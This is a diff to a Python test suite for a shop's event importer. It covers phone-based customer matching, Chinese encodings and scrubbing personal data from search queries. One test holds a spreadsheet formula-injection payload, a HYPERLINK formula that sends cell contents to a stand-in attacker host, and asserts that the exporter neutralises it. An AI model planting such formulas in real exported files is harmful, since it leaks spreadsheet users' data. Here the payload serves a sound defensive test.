@@ -12,13 +12,14 @@ from data_rows import NOW, fill
 from sqlalchemy import select
 
 from data.errors import DataError, ImportRejected
+from data.importer import Terms
 from data.importer.__main__ import main
 from data.importer.events import EventCount, import_events
 from data.models import BehaviourEvent, EventKind
 from data.sequences import sequences, split, write
 from data.unit_of_work import UnitOfWork
 
-ZONE = ZoneInfo("Asia/Shanghai")
+TERMS = Terms("CNY", "CN", ZoneInfo("Asia/Shanghai"), ("zh", "en"))
 HEADER = "event_id,kind,at,email,visitor,product,query,value\n"
 GOOD = (
     HEADER + "e1,view,2026-11-20 10:00,Lin@Example.com,,ridge-tent,,\n"
@@ -41,7 +42,7 @@ def take(
 ) -> EventCount:
     path = folder / name
     path.write_text(text, encoding="utf-8")
-    return import_events(path, uow, zone=ZONE, now=NOW, **options)
+    return import_events(path, uow, terms=TERMS, now=NOW, **options)
 
 
 def refused(uow: UnitOfWork, folder: Path, text: str) -> list[str]:
@@ -82,11 +83,23 @@ def test_parquet_says_the_same_as_csv(uow: UnitOfWork, tmp_path: Path) -> None:
             "value": [None, 4.0, None],
         }
     ).to_parquet(path)
-    assert import_events(path, uow, zone=ZONE, now=NOW) == EventCount(new=3)
-    assert import_events(path, uow, zone=ZONE, now=NOW) == EventCount(known=3)
+    assert import_events(path, uow, terms=TERMS, now=NOW) == EventCount(new=3)
+    assert import_events(path, uow, terms=TERMS, now=NOW) == EventCount(known=3)
     with uow:
         found = [(e.kind, e.at.hour) for e, _ in uow.behaviour.everybodys()]
         assert found == [(EventKind.VIEW, 2), (EventKind.RATING, 3), (EventKind.SEARCH, 4)]
+
+
+def test_a_customer_may_be_named_by_their_telephone(uow: UnitOfWork, tmp_path: Path) -> None:
+    with uow:
+        lin = uow.customers.by_email("lin@example.com")
+        assert lin is not None
+        lin.phone, lin.joined_at = "+8613800138000", None
+        uow.commit()
+    header = "kind,at,phone,product\n"
+    assert take(uow, tmp_path, header + "view,2026-11-20 10:00,138 0013 8000,dome-tent\n").new == 1
+    with pytest.raises(ImportRejected, match="is no customer"):
+        take(uow, tmp_path, header + "view,2026-11-20 10:00,13900139000,dome-tent\n")
 
 
 def test_every_problem_is_told_with_its_row_and_column(uow: UnitOfWork, tmp_path: Path) -> None:
@@ -140,7 +153,7 @@ def test_the_sentences_say_what_to_do(uow: UnitOfWork, tmp_path: Path) -> None:
     [
         ("kind,at,email,prodct", "perhaps product is meant"),
         ("kind,email,product", "column at: is missing"),
-        ("kind,at,product", "give email, visitor or both"),
+        ("kind,at,product", "give email, phone or visitor"),
         ("kind,at,email,at", "stands twice"),
     ],
 )
@@ -153,10 +166,10 @@ def test_what_is_no_table_is_refused(uow: UnitOfWork, tmp_path: Path) -> None:
     (tmp_path / "a.parquet").write_bytes(b"no parquet")
     for name, what in (("a.parquet", "is not Parquet"), ("absent.csv", "cannot be read")):
         with pytest.raises(ImportRejected, match=what):
-            import_events(tmp_path / name, uow, zone=ZONE, now=NOW)
+            import_events(tmp_path / name, uow, terms=TERMS, now=NOW)
     (tmp_path / "b.csv").write_bytes(b"\xff\xff")
     with pytest.raises(ImportRejected, match="neither UTF-8 nor GB 18030"):
-        import_events(tmp_path / "b.csv", uow, zone=ZONE, now=NOW)
+        import_events(tmp_path / "b.csv", uow, terms=TERMS, now=NOW)
 
 
 def test_a_row_with_more_cells_than_names_is_no_row(uow: UnitOfWork, tmp_path: Path) -> None:
@@ -170,7 +183,7 @@ def test_a_row_with_more_cells_than_names_is_no_row(uow: UnitOfWork, tmp_path: P
 def test_chinese_excels_own_encoding_is_read(uow: UnitOfWork, tmp_path: Path) -> None:
     path = tmp_path / "events.csv"
     path.write_bytes(GOOD.replace(",", ";").encode("gb18030"))
-    assert import_events(path, uow, zone=ZONE, now=NOW).new == 5
+    assert import_events(path, uow, terms=TERMS, now=NOW).new == 5
     with uow:
         assert "双人 帐篷" in {e.query for e, _ in uow.behaviour.everybodys()}
 
@@ -212,12 +225,15 @@ def test_more_rows_than_one_piece(
 def test_the_command_tells_what_was_stored(
     uow: UnitOfWork, database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
+    identity = "name: Own\nlanguages: [zh]\ncountry: CN\ncurrency: CNY\ntimezone: Asia/Shanghai\n"
+    (tmp_path / "shop.yaml").write_text(identity)
     path = tmp_path / "events.csv"
     path.write_text(GOOD, encoding="utf-8")
-    assert main(["events", str(path), "--database", database]) == 0
+    arguments = ["events", str(path), "--database", database, "--shop", str(tmp_path)]
+    assert main(arguments) == 0
     assert capsys.readouterr().out == "5 events new\nStored.\n"
     path.write_text(HEADER + "e1,view,,,,,,\n", encoding="utf-8")
-    assert main(["events", str(path), "--database", database]) == 1
+    assert main(arguments) == 1
     assert "row 1, column at: is empty" in capsys.readouterr().err
 
 
@@ -250,6 +266,30 @@ def test_sequences_hold_orders_and_events_in_order_of_time(uow: UnitOfWork, tmp_
     assert len(pd.read_csv(tmp_path / "steps.csv")) == len(parts)
 
 
+def test_a_table_for_a_spreadsheet_computes_nothing(tmp_path: Path) -> None:
+    said = ['=HYPERLINK("https://evil.example/"&A1)', "+1", "-1", "@a", "\tx", "＝1", "tent", ""]
+    at = pd.Timestamp("2026-11-22 09:05", tz="UTC")
+    frame = pd.DataFrame({"item": said, "at": at, "quantity": -1})
+    write(frame, tmp_path / "steps.csv")
+    kept = pd.read_csv(tmp_path / "steps.csv", keep_default_na=False)
+    assert list(kept["item"]) == [f"'{each}" for each in said[:6]] + ["tent", ""]
+    assert list(kept["quantity"]) == [-1] * len(said)
+    assert kept["at"][0] == "2026-11-22 09:05:00+00:00"
+
+
 def test_an_empty_shop_has_no_sequences(new_uow: Callable[[], UnitOfWork]) -> None:
     with new_uow() as uow, pytest.raises(DataError, match="import some first"):
         split(sequences(uow), valid_days=1, test_days=1)
+
+
+def test_what_was_searched_for_says_no_more_who_it_was(new_uow):
+    with new_uow() as uow:
+        fill(uow)
+        for number, query in enumerate(("tent for jane@example.org", "电话13800138000", "雨衣")):
+            uow.session.add(
+                BehaviourEvent(origin="shop", event_id=str(number), kind=EventKind.SEARCH,
+                               query=query, at=NOW)
+            )  # fmt: skip
+        uow.session.flush()
+        queries = set(sequences(uow, "CN")["query"].dropna())
+    assert queries == {"tent for 〔email〕", "电话〔phone〕", "雨衣"}
